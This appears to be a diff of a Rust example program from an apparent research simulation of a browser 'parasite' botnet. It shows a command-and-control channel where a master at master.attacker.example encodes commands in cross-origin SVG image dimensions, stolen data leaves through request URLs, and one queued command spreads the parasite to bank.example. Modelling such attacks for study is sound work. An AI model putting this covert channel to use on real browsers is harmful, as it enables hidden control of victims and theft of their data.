@@ -2,15 +2,18 @@
 //! master to the parasite encoded in the width/height of cross-origin SVG
 //! images; stolen data travels back encoded in request URLs.
 //!
-//! Run with: `cargo run -p parasite --example covert_channel`
+//! Run with: `cargo run --example covert_channel`
 
-use parasite::cnc::{
-    decode_dimensions, downstream_goodput_bytes_per_sec, encode_upstream, CncServer, Command,
-    ImageDimensions,
+use master_parasite::parasite::cnc::{
+    decode_dimensions, downstream_goodput_bytes_per_sec, encode_upstream, parse_svg_dimensions,
+    Command, ImageDimensions,
 };
+use master_parasite::ScenarioBuilder;
 
 fn main() {
-    let mut server = CncServer::new("master.attacker.example");
+    // The scenario only needs the master side here: its C&C server.
+    let scenario = ScenarioBuilder::new().master("master.attacker.example").build();
+    let mut server = scenario.cnc().expect("scenario has a master");
 
     // The master queues a command for its bots.
     server.queue_command(Command::PropagateTo("https://bank.example/".into()));
@@ -24,12 +27,7 @@ fn main() {
     // else about a cross-origin image) — and that is enough.
     let dims: Vec<ImageDimensions> = images
         .iter()
-        .map(|r| {
-            let text = r.body.as_text();
-            let width = text.split("width=\"").nth(1).unwrap().split('"').next().unwrap().parse().unwrap();
-            let height = text.split("height=\"").nth(1).unwrap().split('"').next().unwrap().parse().unwrap();
-            ImageDimensions { width, height }
-        })
+        .map(|r| parse_svg_dimensions(&r.body.as_text()).expect("channel images carry dimensions"))
         .collect();
     let command = Command::from_bytes(&decode_dimensions(&dims).expect("complete sequence")).expect("valid command");
     println!("\nparasite decoded: {command:?}");
